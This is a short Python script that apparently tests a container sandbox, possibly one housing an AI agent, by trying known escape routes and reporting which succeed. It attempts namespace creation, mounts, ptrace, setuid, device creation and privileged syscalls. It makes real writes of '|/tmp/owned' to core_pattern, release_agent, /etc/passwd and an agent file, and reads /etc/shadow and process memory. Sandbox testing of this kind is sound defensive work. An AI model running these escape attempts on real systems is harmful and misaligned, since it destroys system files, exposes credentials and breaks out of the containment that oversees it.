"""Tries the known ways out of a container, and says which were open."""

import ctypes
import json
import os
import socket
import stat

libc = ctypes.CDLL(None, use_errno=True)
ways = []


def attempt(name, call, *args):
    try:
        if call(*args) not in (-1, False):
            ways.append(name)
    except OSError:
        pass


def writes(path):
    with open(path, "w") as file:
        file.write("|/tmp/owned")


def reads(path):
    with open(path, "rb") as file:
        file.read(1)


for name, flag in (
    ("user", 0x10000000),
    ("mount", 0x20000),
    ("pid", 0x20000000),
    ("net", 0x40000000),
):
    attempt("a new %s namespace" % name, libc.unshare, flag)
attempt("mount", libc.mount, b"none", b"/tmp", b"tmpfs", 0, None)
attempt("remount", libc.mount, None, b"/", None, 32 | 4096, None)
attempt("umount", libc.umount2, b"/repro", 2)
attempt("ptrace", libc.ptrace, 16, 1, None, None)
attempt("chroot", os.chroot, "/tmp")
attempt("setuid", os.setuid, 0)
attempt("setgroups", os.setgroups, [0])
attempt("a device", os.mknod, "disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
attempt("bpf", libc.syscall, 321, 0, None, 0)
attempt("a key", libc.syscall, 248, b"user", b"a", b"b", 1, -2)
attempt("perf", libc.syscall, 298, ctypes.create_string_buffer(128), -1, 0, -1, 0)
attempt("host name", socket.sethostname, "owned")
for path in (
    "/proc/sys/kernel/core_pattern",
    "/proc/sysrq-trigger",
    "/proc/1/mem",
    "/proc/1/oom_score_adj",
    "/sys/kernel/uevent_helper",
    "/sys/fs/cgroup/memory/release_agent",
    "/sys/fs/cgroup/cgroup.procs",
    "/etc/passwd",
    "/tfmatrix/agent.py",
    "/usr/bin/env",
    "/dev/mem",
):
    attempt("write " + path, writes, path)
for path in (
    "/proc/1/environ",
    "/proc/1/mem",
    "/proc/kcore",
    "/dev/mem",
    "/dev/sda",
    "/etc/shadow",
):
    attempt("read " + path, reads, path)
attempt("the agent's pipes", lambda: os.listdir("/proc/1/fd"))
print("::observe ways=%s" % json.dumps(ways))
